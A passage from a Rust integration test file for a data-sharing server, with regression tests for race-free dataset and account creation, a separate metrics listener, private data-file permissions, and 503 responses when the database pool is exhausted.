        let rows: Vec<&[Data]> = range.rows().collect();
        assert_eq!(rows.len(), 6001, "{engine:?}: a header and every row, over two pages");
        let text = |d: &Data| d.to_string();
        assert_eq!(rows[0].iter().map(text).collect::<Vec<_>>(), vec!["ma", "ten", "so"]);
        assert_eq!(rows[1].iter().map(text).collect::<Vec<_>>(), vec!["R00001", "Dòng số 1", "-2999"], "{engine:?}");
        assert_eq!(rows[6000][0].to_string(), "R06000", "{engine:?}");
        assert!(matches!(rows[1][2], Data::Float(_) | Data::Int(_)), "{engine:?}: numbers are numbers: {:?}", rows[1][2]);
    }
}

/// Before the fix creating a dataset or an account checked that the name
/// was free, then inserted: two requests at once both passed the check and
/// the second insert hit the unique index, answered as a 500.
#[tokio::test]
async fn two_simultaneous_creations_of_one_dataset_or_one_account_give_one_201_and_one_409() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let steward = app.person("tttt.steward", Some(TTTT), Role::Steward, PASSWORD).await;
        let admin = app.person("quan.tri", None, Role::Admin, PASSWORD).await;
        for i in 0..5 {
            let dataset = json!({
                "id": format!("dua-nhau-{i}"), "database": 26, "title": "Đua nhau", "sharing_mode": "open",
                "schema": {"fields": [{"name": "ma", "type": "string"}], "primaryKey": "ma"}
            });
            let account = json!({"username": format!("nguoi.{i}"), "role": "member", "password": PASSWORD});
            for (path, token, body) in [("/api/v1/datasets", &steward, dataset), ("/api/v1/users", &admin, account)] {
                let (a, b) = tokio::join!(
                    as_(&app, Some(token), Method::POST, path, body.clone()),
                    as_(&app, Some(token), Method::POST, path, body.clone())
                );
                let mut statuses = [a.status, b.status];
                statuses.sort();
                assert_eq!(
                    statuses,
                    [StatusCode::CREATED, StatusCode::CONFLICT],
                    "{engine:?} {path} round {i}: {} / {}",
                    a.text(),
                    b.text()
                );
                let loser = if a.status == StatusCode::CONFLICT { a } else { b };
                assert_eq!(loser.json()["error"]["code"], "conflict", "{engine:?} {path}");
            }
        }
        assert_eq!(app.get_ok("/api/v1/datasets").await["count"], 5, "{engine:?}");
    }
}

// ---------------------------------------------------------------------------
// 15. Metrics on their own listener; a private data directory.

/// GET on any address, for listeners TestApp does not know.
async fn get_url(url: &str) -> (StatusCode, String) {
    use http_body_util::BodyExt;
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build_http::<http_body_util::Full<axum::body::Bytes>>();
    let req = axum::http::Request::get(url).body(http_body_util::Full::default()).unwrap();
    let res = client.request(req).await.unwrap_or_else(|e| panic!("GET {url}: {e}"));
    let status = res.status();
    let body = res.into_body().collect().await.unwrap().to_bytes();
    (status, String::from_utf8_lossy(&body).into_owned())
}

fn free_addr() -> std::net::SocketAddr {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap()
}

/// Before the fix `/metrics` (request counts per route and user, pool
/// sizes) was served on the main listener, to whoever could reach the
/// API, with no way to keep it on an address of its own.
#[tokio::test]
async fn with_a_metrics_address_metrics_are_served_there_and_not_on_the_main_listener() {
    // The router alone, as every test server uses it.
    let app = TestApp::spawn_with(Engine::Sqlite, |c| c.metrics_listen = Some(free_addr())).await;
    app.get_ok("/api/v1/databases").await;
    assert_eq!(app.get("/metrics").await.status, StatusCode::NOT_FOUND);

    // `app::serve`, as `chiase serve` runs it.
    let db = chiase_store::testing::TestDb::new(Engine::Sqlite).await;
    let data = tempfile::tempdir().unwrap();
    let (main, metrics) = (free_addr(), free_addr());
    let cfg = chiase_server::config::Config {
        listen: main,
        metrics_listen: Some(metrics),
        data_dir: data.path().to_path_buf(),
        builtin_catalog: false,
        ..Default::default()
    };
    let state = chiase_server::state::AppState::new(db.store.clone(), cfg).unwrap();
    let server = tokio::spawn(chiase_server::app::serve(state));
    let started = Instant::now();
    while get_health(main).await.is_none() {
        assert!(started.elapsed() < Duration::from_secs(20), "the server did not start");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let (status, _) = get_url(&format!("http://{main}/api/v1/databases")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(get_url(&format!("http://{main}/metrics")).await.0, StatusCode::NOT_FOUND, "not on the main listener");
    let (status, text) = get_url(&format!("http://{metrics}/metrics")).await;
    assert_eq!(status, StatusCode::OK);
    assert!(text.contains("chiase_http_requests_total") && text.contains("chiase_db_pool_connections"), "{text}");
    server.abort();
}

async fn get_health(addr: std::net::SocketAddr) -> Option<StatusCode> {
    let stream = tokio::net::TcpStream::connect(addr).await.ok()?;
    drop(stream);
    Some(get_url(&format!("http://{addr}/healthz")).await.0)
}

#[cfg(unix)]
fn mode(p: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

/// Before the fix `open_store` created the data directory and the database
/// with the process's umask (typically 0755 and 0644): password hashes,
/// session digests and restricted rows were readable by every local user.
#[cfg(unix)]
#[tokio::test]
async fn the_sqlite_data_directory_and_database_are_private_to_the_service_user() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("var").join("chiase");
    let cfg = chiase_server::config::Config { data_dir: data.clone(), ..Default::default() };
    let store = chiase_server::commands::open_store(&cfg).await.unwrap();
    assert_eq!(mode(&data), 0o700, "the data directory");
    for name in ["chiase.db", "chiase.db-wal", "chiase.db-shm"] {
        let p = data.join(name);
        if name == "chiase.db" || p.exists() {
            assert_eq!(mode(&p), 0o600, "{name}");
        }
    }
    store.close().await;
    // An installation made before the fix is made private at the next start.
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(data.join("chiase.db"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let store = chiase_server::commands::open_store(&cfg).await.unwrap();
    assert_eq!((mode(&data), mode(&data.join("chiase.db"))), (0o700, 0o600));
    store.close().await;
}

// ---------------------------------------------------------------------------
// 16. No connection in time: 503 with Retry-After.

/// Holds every connection a request of this kind needs, asks, and expects
/// a 503 once the pool gives up (`StoreConfig::DEFAULT_ACQUIRE_TIMEOUT`,
/// the `db_acquire_timeout_secs` setting when serving).
async fn pool_exhausted(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    app.person("cong.dan", None, Role::Member, PASSWORD).await;
    let schema = json!({"fields": [{"name": "ma", "type": "string"}], "primaryKey": "ma"});
    // Open write transactions, one per dataset, until no connection is left
    // for another (SQLite has one writer connection; the PostgreSQL test
    // pool has a few).
    let mut datasets = Vec::new();
    for i in 0..12 {
        datasets.push(create(&app, &format!("giu-{i}"), 26, "open", schema.clone()).await);
    }
    let mut writers = Vec::new();
    for ds in &datasets {
        let permit = operator_data::write(ds);
        match tokio::time::timeout(Duration::from_secs(2), app.store().begin_write(&permit, &ds.id, ImportMode::Append, "test", None)).await
        {
            Ok(w) => writers.push(w.unwrap()),
            Err(_) => break,
        }
    }
    assert!(!writers.is_empty() && writers.len() < datasets.len(), "{engine:?}: {} connections held", writers.len());
    let ask = || async {
        match engine {
            // Signing in writes the attempt first: it needs the writer.
            Engine::Sqlite => sign_in_from(&app, "", "cong.dan", PASSWORD).await,
            Engine::Postgres => app.get("/api/v1/datasets").await,
        }
    };
    let started = Instant::now();
    let r = ask().await;
    assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{engine:?} after {:?}: {}", started.elapsed(), r.text());
    assert!(r.headers["retry-after"].to_str().unwrap().parse::<u32>().unwrap() > 0, "{engine:?}");
    let e = r.json();
    assert_eq!(e["error"]["code"], "busy", "{engine:?}");
    assert!(e["error"]["message"].is_string() && e["error"]["message_en"].as_str().unwrap().contains("busy"), "{e}");
    drop(writers);
    assert_eq!(ask().await.status, StatusCode::OK, "{engine:?}: served again once connections are free");
}

/// Before the fix a request that could not get a database connection before
/// the pool's timeout was answered as an internal error (500, logged as a
/// bug) instead of a 503 a client may retry.
#[tokio::test]
async fn a_request_that_gets_no_database_connection_in_time_is_a_503_with_retry_after() {
    futures_util::future::join_all(engines().into_iter().map(pool_exhausted)).await;
}
